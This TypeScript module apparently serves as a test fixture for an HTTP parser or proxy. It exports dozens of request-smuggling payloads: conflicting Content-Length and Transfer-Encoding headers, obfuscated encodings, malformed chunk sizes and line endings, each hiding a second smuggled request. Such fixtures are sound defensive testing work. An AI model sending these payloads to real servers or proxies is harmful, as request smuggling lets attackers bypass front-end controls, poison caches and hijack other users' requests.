const SECOND = 'GET /smuggled HTTP/1.1\r\nHost: a\r\n\r\n';

/** A POST with these fields, lines joined by CRLF, and this body. */
function post(fields: string, body: string): string {
  return `POST /a HTTP/1.1\r\nHost: a\r\n${fields}\r\n\r\n${body}`;
}

const framings = [
  // CL.TE, TE.CL: both, in both orders, with either being the true one.
  post('Content-Length: 6\r\nTransfer-Encoding: chunked', `0\r\n\r\nX${SECOND}`),
  post('Transfer-Encoding: chunked\r\nContent-Length: 4', `23\r\n${SECOND}\r\n0\r\n\r\n`),
  post(`Content-Length: ${SECOND.length}\r\nTransfer-Encoding: identity`, SECOND),
  // TE.TE: one of two is hidden from one of two parsers.
  post(
    'Transfer-Encoding: chunked\r\nTransfer-Encoding: cow\r\nContent-Length: 4',
    `5c\r\n${SECOND}0\r\n\r\n`,
  ),
  post('Transfer-Encoding: xchunked\r\nContent-Length: 5', `0\r\n\r\n${SECOND}`),
  post('Transfer-Encoding : chunked\r\nContent-Length: 5', `0\r\n\r\n${SECOND}`),
  post('Transfer-Encoding\t: chunked\r\nContent-Length: 5', `0\r\n\r\n${SECOND}`),
  post(' Transfer-Encoding: chunked\r\nContent-Length: 5', `0\r\n\r\n${SECOND}`),
  post('X: y\r\n Transfer-Encoding: chunked\r\nContent-Length: 5', `0\r\n\r\n${SECOND}`),
  post('X: y\nTransfer-Encoding: chunked\r\nContent-Length: 5', `0\r\n\r\n${SECOND}`),
  post('X: y\rTransfer-Encoding: chunked\r\nContent-Length: 5', `0\r\n\r\n${SECOND}`),
  post('Transfer-Encoding:\vchunked\r\nContent-Length: 5', `0\r\n\r\n${SECOND}`),
  post('Transfer-Encoding:\n chunked\r\nContent-Length: 5', `0\r\n\r\n${SECOND}`),
  post('Transfer-Encoding:\r\n chunked\r\nContent-Length: 5', `0\r\n\r\n${SECOND}`),
  post('Transfer_Encoding: chunked\r\nContent-Length: 5', `0\r\n\r\n${SECOND}`),
  post('Transfer-Encoding: chunked\r\nContent_Length: 5', `0\r\n\r\n${SECOND}`),
  post('Transfer-Encoding: "chunked"\r\nContent-Length: 5', `0\r\n\r\n${SECOND}`),
  post('Transfer-Encoding: chunked, identity\r\nContent-Length: 5', `0\r\n\r\n${SECOND}`),
  post('Transfer-Encoding: identity, chunked\r\nContent-Length: 5', `0\r\n\r\n${SECOND}`),
  post('Transfer-Encoding: gzip, chunked', `0\r\n\r\n${SECOND}`),
  post('Transfer-Encoding: \r\nContent-Length: 5', `0\r\n\r\n${SECOND}`),
  post('\0Transfer-Encoding: chunked\r\nContent-Length: 5', `0\r\n\r\n${SECOND}`),
  // Lengths: lists, signs, bases, blanks, leading zeros, overflow.
  post('Content-Length: 0\r\nContent-Length: 35', SECOND),
  post('Content-Length: 35\r\nContent-Length: 0', SECOND),
  post('Content-Length: 5, 5', `hello${SECOND}`),
  post('Content-Length: 0, 35', SECOND),
  post('Content-Length: +35', SECOND),
  post('Content-Length: -1', SECOND),
  post('Content-Length: 0x23', SECOND),
  post('Content-Length: 035', SECOND),
  post('Content-Length: 3 5', SECOND),
  post('Content-Length: 35.0', SECOND),
  post('Content-Length: 3_5', SECOND),
  post('Content-Length: 35e0', SECOND),
  post('Content-Length: ', SECOND),
  post('Content-Length : 35', SECOND),
  post('Content-Length: 18446744073709551651', SECOND),
  post('Content-Length: 4294967331', SECOND),
  post('Content-Length:\r\n 35', SECOND),
  post('Connection: Content-Length\r\nContent-Length: 35', SECOND),
  post('Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked', `23\r\n${SECOND}\r\n0\r\n\r\n`),
];

const chunk = (body: string): string => post('Transfer-Encoding: chunked', body);

const chunks = [
  // Extensions: what ends them differs between parsers.
  chunk(`5;\r\nhello\r\n0\r\n\r\n${SECOND}`),
  chunk(`5;a=b\r\nhello\r\n0\r\n\r\n${SECOND}`),
  chunk(`5;\n24\r\nhello\r\n0\r\n\r\n${SECOND}`),
  chunk(`2;\nxx\r\n28\r\n0\r\n\r\n${SECOND}0\r\n\r\n`),
  chunk(`2;a="\r\n"\r\nxx\r\n0\r\n\r\n${SECOND}`),
  chunk(`2\r\r;a\r\n02\r\n2d\r\n0\r\n\r\n${SECOND}0\r\n\r\n`),
  chunk(`1\r\nZ\r\n0;\n${SECOND}`),
  // Line ends.
  chunk(`5\nhello\r\n0\r\n\r\n${SECOND}`),
  chunk(`5\r\nhello\n0\r\n\r\n${SECOND}`),
  chunk(`5\rXhello\r\n0\r\n\r\n${SECOND}`),
  chunk(`5\r\nhello\r\n0\n\r\n${SECOND}`),
  chunk(`5\r\nhello\r\n0\r\n\n${SECOND}`),
  chunk(`5\r\nhello\r\n0\r\n\r${SECOND}`),
  chunk(`5\r\nhello0\r\n\r\n${SECOND}`),
  chunk(`5\r\nhelloXX0\r\n\r\n${SECOND}`),
  chunk(`5\r\nhelloXXX\r\n0\r\n\r\n${SECOND}`),
  chunk(`3\r\nhello\r\n0\r\n\r\n${SECOND}`),
  // Sizes.
  chunk(`0x5\r\nhello\r\n0\r\n\r\n${SECOND}`),
  chunk(`+5\r\nhello\r\n0\r\n\r\n${SECOND}`),
  chunk(`-5\r\nhello\r\n0\r\n\r\n${SECOND}`),
  chunk(` 5\r\nhello\r\n0\r\n\r\n${SECOND}`),
  chunk(`5 \r\nhello\r\n0\r\n\r\n${SECOND}`),
  chunk(`0_5\r\nhello\r\n0\r\n\r\n${SECOND}`),
  chunk(`5g\r\nhello\r\n0\r\n\r\n${SECOND}`),
  chunk(`\r\nhello\r\n0\r\n\r\n${SECOND}`),
  chunk(`10000000000000005\r\nhello\r\n0\r\n\r\n${SECOND}`),
  chunk(`ffffffffffffffff\r\nhello\r\n0\r\n\r\n${SECOND}`),
  chunk(`100000005\r\nhello\r\n0\r\n\r\n${SECOND}`),
  chunk(`${'0'.repeat(40)}5\r\nhello\r\n0\r\n\r\n${SECOND}`),
  chunk(`00000005\r\nhello\r\n000\r\n\r\n${SECOND}`),
  // Trailers.
  chunk(`0\r\nContent-Length: 35\r\n\r\n${SECOND}`),
  chunk(`0\r\nTransfer-Encoding: chunked\r\n\r\n${SECOND}`),
  chunk(`0\r\nX: y\r\n folded\r\n\r\n${SECOND}`),
  chunk(`0\r\nX: y\n\r\n${SECOND}`),
  chunk(`0\r\nGET /smuggled HTTP/1.1\r\n\r\n`),
];

const lines = [
  `GET /a\r\n\r\n`,
  `GET /a HTTP/0.9\r\nHost: a\r\n\r\n`,
  `GET /a HTTP/1.2\r\nHost: a\r\n\r\n`,
  `GET /a HTTP/1.1 HTTP/1.1\r\nHost: a\r\n\r\n`,
  `GET  /a HTTP/1.1\r\nHost: a\r\n\r\n`,
  `GET\t/a\tHTTP/1.1\r\nHost: a\r\n\r\n`,
  ` GET /a HTTP/1.1\r\nHost: a\r\n\r\n`,
  `\r\nGET /a HTTP/1.1\r\nHost: a\r\n\r\n`,
  `\r\n\r\n\nGET /a HTTP/1.1\r\nHost: a\r\n\r\n`,
  `GET /a\nHTTP/1.1\r\nHost: a\r\n\r\n`,
  `GET /a\0 HTTP/1.1\r\nHost: a\r\n\r\n`,
  `PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0`,
  `GET http://a/a HTTP/1.1\r\nHost: b\r\n\r\n`,
  `GET http://b/a HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n`,
  `GET /a HTTP/1.1\r\nHost: a\r\n Host: b\r\n\r\n`,
  `GET /a HTTP/1.1\nHost: a\n\n`,
  `GET /a HTTP/1.1\r\nHost: a\r\n: x\r\n\r\n`,
  `GET /a HTTP/1.1\r\nHost: a\r\nX: \x00\x0a\x0d\r\n\r\n`,
  `GET /a HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n${SECOND}`,
  post('Connection: Upgrade\r\nUpgrade: websocket\r\nContent-Length: 5', `hello${SECOND}`),
  post('Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMA', SECOND),
  `POST /a HTTP/1.0\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n${SECOND}`,
  `POST /a HTTP/1.0\r\nHost: a\r\nConnection: keep-alive\r\nContent-Length: 5\r\n\r\nhello${SECOND}`,
  post('Expect: 100-continue\r\nContent-Length: 5', `hello${SECOND}`),
  post('Connection: close\r\nContent-Length: 5', `hello${SECOND}`),
  `GET /a HTTP/1.1\r\nHost: a\r\nContent-Length: 35\r\n\r\n${SECOND}`,
  `HEAD /a HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n23\r\n${SECOND}\r\n0\r\n\r\n`,
  `TRACE /a HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\n\r\nhello${SECOND}`,
  `CONNECT a:80 HTTP/1.1\r\nHost: a:80\r\n\r\n${SECOND}`,
];

/**
 * Classic payloads of request smuggling, each with a second request that must never be seen by itself unless it is
 * one. Byte patterns as they are known from advisories and public collections, written down in this form.
 */
export const REQUESTS: readonly string[] = [...framings, ...chunks, ...lines];
